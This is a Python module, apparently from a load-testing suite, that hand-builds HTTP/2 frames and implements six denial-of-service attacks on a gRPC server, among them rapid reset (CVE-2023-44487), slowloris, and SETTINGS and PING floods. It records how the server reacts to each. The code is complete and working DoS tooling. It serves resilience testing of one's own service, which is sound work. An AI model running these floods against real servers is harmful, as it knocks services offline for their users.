"""Hand-built HTTP/2 attacks on a gRPC server, from raw sockets: frames built here, header
blocks by `hpack`.

Six attack classes: rapid reset (streams opened and reset at once, CVE-2023-44487), a stream
flood (headers and never a body, held), window starvation (calls whose responses can never
be sent: the client's flow-control window is zero), slowloris (connections that send part of
the preface, held), a SETTINGS flood and a PING flood. Each returns what the server did to
its connections (GOAWAYs, stream resets by error code, closes, its advertised stream limit).
`loadtest.h2_abuse` runs them beside a legitimate caller.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import hpack
from loom.v1 import inbox_pb2

__all__ = ["ATTACKS", "PREFACE", "Attack", "Scale", "frame"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1
_CANCEL = 0x8
_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 11: "CALM"}
_MAX_CONCURRENT_STREAMS, _INITIAL_WINDOW_SIZE = 0x3, 0x4
_PATH = "/loom.v1.Inbox/GetUnreadCount"
_BODY = inbox_pb2.GetUnreadCountRequest(inbox_id="h2-abuse").SerializeToString()
_MESSAGE = b"\x00" + struct.pack(">I", len(_BODY)) + _BODY


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 9-byte header, then `payload`."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def _settings(*pairs: tuple[int, int]) -> bytes:
    return frame(_SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def _header_block(authority: str) -> bytes:
    """A GetUnreadCount request's headers, as literals that never enter the dynamic table
    (the same bytes are valid for every stream of a connection)."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", _PATH),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


@dataclass(kw_only=True)
class _Seen:
    """What the server sent one attacking connection."""

    goaway: int = 0
    resets: dict[int, int] = field(default_factory=dict)
    """RST_STREAM frames by error code (7: REFUSED_STREAM, never processed)."""
    settings_acks: int = 0
    settings: dict[int, int] = field(default_factory=dict)
    """The server's SETTINGS (4: INITIAL_WINDOW_SIZE, 3: MAX_CONCURRENT_STREAMS)."""
    closed: bool = False


class _Peer:
    """One raw HTTP/2 connection: writes what it is given; a reader acknowledges the
    server's SETTINGS and PINGs (as a real client would) and counts what else arrives."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, answer: bool = True
    ) -> None:
        self.reader, self.writer, self.seen = reader, writer, _Seen()
        self._answer = answer  # False: reads, never writes (a preface half sent stays so)
        self._task = asyncio.create_task(self._read())

    @classmethod
    async def open(cls, host: str, port: int, *pairs: tuple[int, int]) -> _Peer:
        reader, writer = await asyncio.open_connection(host, port, limit=1 << 20)
        writer.write(PREFACE + _settings(*pairs))
        return cls(reader, writer)

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = await self.reader.readexactly(length) if length else b""
                if kind == _SETTINGS and flags & _ACK:
                    self.seen.settings_acks += 1
                elif kind == _SETTINGS:
                    for at in range(0, length - 5, 6):
                        key, value = struct.unpack_from(">HI", payload, at)
                        self.seen.settings[key] = value
                    if self._answer:
                        self.writer.write(frame(_SETTINGS, _ACK, 0))
                elif kind == _PING and not flags & _ACK and self._answer:
                    self.writer.write(frame(_PING, _ACK, 0, payload))
                elif kind == _GOAWAY:
                    self.seen.goaway += 1
                elif kind == _RST:
                    code = int.from_bytes(payload[-4:], "big")
                    self.seen.resets[code] = self.seen.resets.get(code, 0) + 1
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            pass
        self.seen.closed = True

    async def send(self, data: bytes) -> bool:
        """Writes `data`; False once the server has closed the connection."""
        if self.seen.closed or self.writer.is_closing():
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
        except (ConnectionError, OSError):
            self.seen.closed = True
        return not self.seen.closed

    async def close(self) -> None:
        self.writer.close()
        with contextlib.suppress(ConnectionError, OSError):
            await self.writer.wait_closed()
        self._task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await self._task


@dataclass(frozen=True, kw_only=True)
class Scale:
    """How hard each attack pushes (the reviewer's probe by default)."""

    reset_streams: int = 50_000
    flood_streams: int = 15_000
    flood_hold_s: float = 15.0
    starved_calls: int = 2_000
    starve_hold_s: float = 10.0
    slowloris_connections: int = 1_000
    slowloris_hold_s: float = 20.0
    settings_frames: int = 50_000
    ping_frames: int = 50_000


def _tally(peers: list[_Peer], **extra: Any) -> dict[str, Any]:
    return {
        "goaway": sum(p.seen.goaway for p in peers),
        "resets": {
            _CODES.get(code, str(code)): sum(p.seen.resets.get(code, 0) for p in peers)
            for code in sorted({c for p in peers for c in p.seen.resets})
        },
        "closed_by_server": sum(p.seen.closed for p in peers),
        "max_concurrent_streams": max(
            (p.seen.settings.get(_MAX_CONCURRENT_STREAMS, -1) for p in peers), default=-1
        ),
        **extra,
    }


async def rapid_reset(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Streams opened and reset at once, in batches, as fast as the socket takes them; a
    connection the server closes is replaced."""
    block = _header_block(f"{host}:{port}")
    peers = [await _Peer.open(host, port)]
    stream, sent, batch = 1, 0, 100
    while sent < scale.reset_streams:
        chunk = b"".join(
            frame(_HEADERS, _END_HEADERS, s, block) + frame(_RST, 0, s, struct.pack(">I", _CANCEL))
            for s in range(stream, stream + 2 * batch, 2)
        )
        if await peers[-1].send(chunk):
            sent, stream = sent + batch, stream + 2 * batch
        else:
            peers.append(await _Peer.open(host, port))
            stream = 1
    await asyncio.sleep(0.5)
    tally = _tally(peers, streams=sent, connections=len(peers))
    for peer in peers:
        await peer.close()
    return tally


async def _hold(peers: list[_Peer], hold_s: float, **extra: Any) -> dict[str, Any]:
    await asyncio.sleep(hold_s)
    tally = _tally(peers, **extra)
    for peer in peers:
        await peer.close()
    return tally


async def stream_flood(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Streams that send headers and never a body (nor END_STREAM), held open."""
    block = _header_block(f"{host}:{port}")
    peer = await _Peer.open(host, port)
    for first in range(0, scale.flood_streams, 500):
        ids = range(2 * first + 1, 2 * min(first + 500, scale.flood_streams) + 1, 2)
        await peer.send(b"".join(frame(_HEADERS, _END_HEADERS, s, block) for s in ids))
    return await _hold([peer], scale.flood_hold_s, streams=scale.flood_streams)


async def window_starvation(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Whole calls from a client whose flow-control window is zero: every answer is
    computed and can never be sent."""
    block = _header_block(f"{host}:{port}")
    peer = await _Peer.open(host, port, (_INITIAL_WINDOW_SIZE, 0))
    for first in range(0, scale.starved_calls, 200):
        ids = range(2 * first + 1, 2 * min(first + 200, scale.starved_calls) + 1, 2)
        await peer.send(
            b"".join(
                frame(_HEADERS, _END_HEADERS, s, block) + frame(_DATA, _END_STREAM, s, _MESSAGE)
                for s in ids
            )
        )
    return await _hold([peer], scale.starve_hold_s, calls=scale.starved_calls)


async def slowloris(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Connections that send the first bytes of the preface and nothing more, held."""
    peers = []
    for _ in range(scale.slowloris_connections):
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(PREFACE[:8])
        peers.append(_Peer(reader, writer, answer=False))
    return await _hold(peers, scale.slowloris_hold_s, connections=len(peers))


async def settings_flood(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """SETTINGS frames back to back on one connection, each asking for an acknowledgement."""
    peer = await _Peer.open(host, port)
    one = _settings((_INITIAL_WINDOW_SIZE, 65_535))
    sent = 0
    while sent < scale.settings_frames and await peer.send(one * 500):
        sent += 500
    await asyncio.sleep(1.0)
    tally = _tally([peer], frames=sent, acknowledged=peer.seen.settings_acks)
    await peer.close()
    return tally


async def ping_flood(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """PINGs back to back on one connection with no call running."""
    peer = await _Peer.open(host, port)
    sent = 0
    while sent < scale.ping_frames and await peer.send(frame(_PING, 0, 0, bytes(8)) * 500):
        sent += 500
    await asyncio.sleep(1.0)
    tally = _tally([peer], frames=sent)
    await peer.close()
    return tally


Attack = Callable[[str, int, Scale], Awaitable[dict[str, Any]]]
ATTACKS: dict[str, Attack] = {
    "rapid_reset": rapid_reset,
    "stream_flood": stream_flood,
    "window_starvation": window_starvation,
    "slowloris": slowloris,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
}
